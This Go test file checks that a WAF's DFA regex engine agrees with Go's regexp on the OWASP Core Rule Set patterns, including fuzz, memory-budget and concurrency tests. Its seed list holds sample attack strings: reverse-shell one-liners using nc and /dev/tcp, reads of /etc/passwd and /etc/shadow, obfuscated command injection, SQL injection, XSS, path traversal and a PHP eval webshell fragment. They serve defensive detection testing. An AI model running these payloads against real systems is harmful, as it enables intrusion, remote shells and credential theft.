package rx

import (
	"math/rand/v2"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/corazawaf/coraza-coreruleset/v4"
	"github.com/corazawaf/coraza/v3"
	"github.com/corazawaf/coraza/v3/experimental/plugins"
	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
)

// dfaSeeds are values the CRS patterns look for and values they must let
// through; the tests mutate and join them. They feed the fuzz target too.
var dfaSeeds = []string{
	"", "\n", "\r\n", " ", "a", "a\nb", "\n\n", "ab\n", "\nab", "__", "a b",
	";cat /etc/passwd", "$(uname -a)", "`id`", "|| whoami", "&& ls -la",
	"c'a't /e't'c/p'a's's'w'd", "w\\h\\o\\a\\m\\i", "${IFS}cat${IFS}/etc/shadow",
	"; nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
	"' or 1=1--", "1 union select password from users", "admin'/*", "sleep(5)#",
	"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert`1`",
	"../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f", "php://filter/resource=x",
	"{\"user\":\"alice\",\"id\":42,\"tags\":[\"a\",\"b\"]}", "application/json",
	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36", "sess=abc123; theme=dark",
	"GET /api/v1/orders?id=7 HTTP/1.1", "multipart/form-data; boundary=x",
	"eval(base64_decode($_POST['x']))", "system('id')", "/bin/sh", "unset HISTFILE",
	"ping -c 1 127.0.0.1", "time out", "set a=1", "echo ok; exit", "\x00\x01\x7f",
}

var (
	crsPatternsOnce sync.Once
	crsPatterns     []string
)

// crsDirectives load the CRS request rules, and rules with meshwaf's own
// @rx patterns (the content-type rules of the inspector's directives): the
// patterns the inspector's rule sets parse.
const crsDirectives = `Include @crs-setup.conf.example
SecRule REQUEST_HEADERS:Content-Type "^(?:application(?:/soap\+|/)|text/)xml" "id:200000,phase:1,t:none,t:lowercase,pass,nolog"
SecRule REQUEST_HEADERS:Content-Type "^application/json" "id:200001,phase:1,t:none,t:lowercase,pass,nolog"
SecRule REQUEST_HEADERS:Content-Type "^application/[a-z0-9.-]+[+]json" "id:200006,phase:1,t:none,t:lowercase,pass,nolog"
SecRule REQUEST_HEADERS:Content-Type "@rx ^application/grpc(?:-web)?(?:[+;]|$)" "id:99104,phase:1,pass,nolog,t:none,t:lowercase"
Include @owasp_crs/REQUEST-*.conf
`

// crsRxPatterns returns every @rx argument of the CRS as the operator
// receives it, recorded by wrapping the registered factory while a WAF
// parses all the rules.
func crsRxPatterns(t testing.TB) []string {
	t.Helper()
	crsPatternsOnce.Do(func() {
		Register()
		var mu sync.Mutex
		seen := map[string]bool{}
		plugins.RegisterOperator("rx", func(o plugintypes.OperatorOptions) (plugintypes.Operator, error) {
			mu.Lock()
			if !seen[o.Arguments] {
				seen[o.Arguments] = true
				crsPatterns = append(crsPatterns, o.Arguments)
			}
			mu.Unlock()
			return newRxOperator(o)
		})
		defer plugins.RegisterOperator("rx", newRxOperator)
		_, err := coraza.NewWAF(coraza.NewWAFConfig().WithRootFS(coreruleset.FS).
			WithDirectives(crsDirectives))
		if err != nil {
			t.Fatalf("parsing CRS: %v", err)
		}
	})
	if len(crsPatterns) < 200 {
		t.Fatalf("recorded %d CRS @rx patterns, want the whole CRS", len(crsPatterns))
	}
	return crsPatterns
}

// dfaInputs is the seeds and n values made from them: joined, cut, and
// with characters the patterns care about put in, swapped or dropped.
func dfaInputs(n int) []string {
	rng := rand.New(rand.NewPCG(3, 5))
	const alphabet = "abcdeilmnoprstuwxyz ABCELOST019_$(){}[]<>|&;`'\"\\/.=%#*?!-:,\n\r\t\x0b\x00\x7f"
	out := append([]string(nil), dfaSeeds...)
	for len(out) < len(dfaSeeds)+n {
		v := dfaSeeds[rng.IntN(len(dfaSeeds))]
		for range 1 + rng.IntN(4) {
			switch rng.IntN(5) {
			case 0:
				v += dfaSeeds[rng.IntN(len(dfaSeeds))]
			case 1:
				if len(v) > 1 {
					i := rng.IntN(len(v))
					v = v[:i] + v[i+rng.IntN(len(v)-i):]
				}
			default:
				i := rng.IntN(len(v) + 1)
				c := string(alphabet[rng.IntN(len(alphabet))])
				if i < len(v) && rng.IntN(2) == 0 {
					v = v[:i] + c + v[i+1:]
				} else {
					v = v[:i] + c + v[i:]
				}
			}
		}
		out = append(out, v)
	}
	return out
}

// checkDFA compares the DFA of pattern with Go's regexp on values; the
// pattern is compiled with the operator's flags, as the operator does.
func checkDFA(t testing.TB, d *dfa, re *regexp.Regexp, values []string) (answered int) {
	t.Helper()
	for _, v := range values {
		got := d.Match(v)
		if got == dfaUnknown {
			continue
		}
		answered++
		if want := re.MatchString(v); (got == dfaMatch) != want {
			t.Fatalf("pattern %q value %q: DFA says match=%v, regexp %v", re, v, got == dfaMatch, want)
		}
	}
	return answered
}

// settleDFA asks d about v until it answers and checks the answer. One call
// adds at most dfaMaxBuild transitions and a value needs at most one per
// byte, so an ASCII value must be answered within len(v)/dfaMaxBuild+2
// calls, unless some DFA dropped its states meanwhile (budget).
func settleDFA(t testing.TB, d *dfa, re *regexp.Regexp, v string) dfaResult {
	t.Helper()
	_, resets := DFAStats()
	got := d.Match(v)
	for i := 0; got == dfaUnknown && i <= len(v)/dfaMaxBuild+1; i++ {
		got = d.Match(v)
	}
	if got == dfaUnknown {
		if _, now := DFAStats(); isASCII(v) && now == resets {
			t.Fatalf("pattern %q: ASCII value %q left open without a budget reset", re, v)
		}
		return got
	}
	if want := re.MatchString(v); (got == dfaMatch) != want {
		t.Fatalf("pattern %q value %q: DFA says match=%v, regexp %v", re, v, got == dfaMatch, want)
	}
	return got
}

// TestDFAMatchesRegexpOnCRS runs every CRS pattern's DFA against Go's
// regexp. The DFA may leave a value open (non-ASCII, budget) but must
// never answer differently.
func TestDFAMatchesRegexpOnCRS(t *testing.T) {
	values := dfaInputs(600)
	ascii := 0
	for _, v := range values {
		if isASCII(v) {
			ascii++
		}
	}
	matched := 0
	for _, p := range crsRxPatterns(t) {
		expr := rxDefaultFlags + p
		if matchesNonUTF8(expr) {
			continue // binaryregexp patterns get no DFA
		}
		d := newDFA(expr)
		if d == nil {
			t.Fatalf("no DFA for CRS pattern %q", p)
		}
		re := regexp.MustCompile(expr)
		if n := checkDFA(t, d, re, values); n != ascii {
			t.Fatalf("pattern %q: DFA answered %d of %d ASCII values", p, n, ascii)
		}
		for _, v := range values {
			if d.Match(v) == dfaMatch {
				matched++
			}
		}
	}
	if matched == 0 {
		t.Fatal("no value matched any pattern: the inputs test nothing")
	}
	t.Logf("%d patterns x %d values, %d matches", len(crsPatterns), len(values), matched)
}

// TestDFAEdges covers the empty-width assertions and the classes directly.
func TestDFAEdges(t *testing.T) {
	for _, tc := range []struct {
		expr   string
		values []string
	}{
		{`(?sm)^$`, []string{"", "a", "\n", "a\n", "\na", "a\n\nb"}},
		{`(?sm)^abc$`, []string{"abc", "xabc", "abc\n", "x\nabc\ny", "abcd", "ab\nc"}},
		{`(?s)^abc$`, []string{"abc", "x\nabc", "abc\n"}},
		{`(?sm)\bor\b`, []string{"or", "for", "a or b", "or_", "(or)", "x\nor"}},
		{`(?sm)\Bor\B`, []string{"for", "fort", "or", " or "}},
		{`(?sm)\Aab|cd\z`, []string{"ab", "xab", "cd", "cdx", "a\nb\ncd"}},
		{`(?sm)(?i)select.*from`, []string{"SELECT x FROM", "select\nfrom", "sel from"}},
		{`(?m).+`, []string{"", "\n", "\n\n", "a"}},
		{`(?sm)(?i)k`, []string{"K", "k", "x"}},
		{`(?sm)a*`, []string{"", "b"}},
		{`(?sm)[^\x00-\x7f]`, []string{"abc", "\x7f"}},
	} {
		d := newDFA(tc.expr)
		if d == nil {
			t.Fatalf("no DFA for %q", tc.expr)
		}
		re := regexp.MustCompile(tc.expr)
		for _, v := range tc.values {
			if settleDFA(t, d, re, v) == dfaUnknown {
				t.Fatalf("pattern %q: edge value %q not answered", tc.expr, v)
			}
		}
		for _, v := range dfaInputs(200) {
			settleDFA(t, d, re, v)
		}
	}
	d := newDFA(`(?i)k`)
	if got := d.Match("\u212a"); got != dfaUnknown {
		t.Fatalf("non-ASCII value answered %v, want it left to the regexp", got)
	}
	if newDFA(`(`) != nil {
		t.Fatal("a DFA for a pattern that does not parse")
	}
}

// TestDFABudget forces the state cache to be dropped again and again: the
// answers must stay right and the memory bounded.
func TestDFABudget(t *testing.T) {
	expr := `(?sm)(?i)(?:c[\"'\\]*a[\"'\\]*t|w[\"'\\]*g[\"'\\]*e[\"'\\]*t)[\s<>|;]+/`
	d := newDFA(expr)
	d.budget = 4 << 10
	re := regexp.MustCompile(expr)
	values := dfaInputs(3000)
	first := d.cache.Load()
	answered := checkDFA(t, d, re, values)
	if d.cache.Load() == first {
		t.Fatal("the budget never dropped the cache")
	}
	if answered == 0 {
		t.Fatal("the DFA answered nothing under a small budget")
	}
	if b := d.cache.Load().bytes; b > d.budget+(4<<10) {
		t.Fatalf("cache holds %d bytes, budget %d", b, d.budget)
	}
}

// TestDFAConcurrent shares one DFA between goroutines while it builds its
// states (run with -race).
func TestDFAConcurrent(t *testing.T) {
	expr := rxDefaultFlags + `(?i)(?:^|[;|&\n])\s*(?:cat|ls|id|whoami)\b`
	d := newDFA(expr)
	d.budget = 16 << 10
	re := regexp.MustCompile(expr)
	values := dfaInputs(400)
	answered := make([]atomic.Bool, len(values))
	var wg sync.WaitGroup
	for g := range 4 {
		wg.Go(func() {
			for i := range values {
				j := (i*7 + g*13) % len(values)
				v := values[j]
				got := d.Match(v)
				if got == dfaUnknown {
					continue
				}
				answered[j].Store(true)
				if (got == dfaMatch) != re.MatchString(v) {
					t.Errorf("value %q: DFA %v", v, got)
					return
				}
			}
		})
	}
	wg.Wait()
	n := 0
	for j := range answered {
		if answered[j].Load() {
			n++
		} else {
			settleDFA(t, d, re, values[j]) // states the others built must let it finish
		}
	}
	if n < len(values)/2 {
		t.Fatalf("the goroutines got %d answers for %d values", n, len(values))
	}
}

// FuzzDFA compares every CRS pattern's DFA with Go's regexp on one value.
func FuzzDFA(f *testing.F) {
	for _, s := range dfaSeeds {
		f.Add(s)
	}
	type pair struct {
		d  *dfa
		re *regexp.Regexp
	}
	var (
		once  sync.Once
		pairs []pair
	)
	f.Fuzz(func(t *testing.T, v string) {
		once.Do(func() {
			for _, p := range crsRxPatterns(t) {
				expr := rxDefaultFlags + p
				if matchesNonUTF8(expr) {
					continue
				}
				pairs = append(pairs, pair{newDFA(expr), regexp.MustCompile(expr)})
			}
		})
		if len(v) > 4096 || !strings.ContainsFunc(v, func(r rune) bool { return r != 0 }) && len(v) > 64 {
			return
		}
		for _, p := range pairs {
			settleDFA(t, p.d, p.re, v)
		}
	})
}

// TestDFABuildBoundPerValue: a value that would make a state at nearly
// every byte (a pattern whose DFA is exponential) is left to the regexp
// after dfaMaxBuild new transitions, and the states it leaves are reused:
// asking again makes progress until the DFA answers.
func TestDFABuildBoundPerValue(t *testing.T) {
	expr := `(?s)a.{24}c`
	d := newDFA(expr)
	re := regexp.MustCompile(expr)
	rng := rand.New(rand.NewPCG(1, 2))
	v := make([]byte, 2000)
	for i := range v {
		v[i] = "ab"[rng.IntN(2)]
	}
	if got := d.Match(string(v)); got != dfaUnknown {
		t.Fatalf("first call answered %v; want the value left to the regexp", got)
	}
	if n := len(d.cache.Load().states); n > dfaMaxBuild+2 {
		t.Fatalf("%d states after one value, bound %d", n, dfaMaxBuild)
	}
	short := string(v[:40])
	for range 10 {
		if got := d.Match(short); got != dfaUnknown {
			if (got == dfaMatch) != re.MatchString(short) {
				t.Fatalf("DFA %v, regexp %v", got, re.MatchString(short))
			}
			return
		}
	}
	t.Fatal("a 40-byte value was never answered")
}
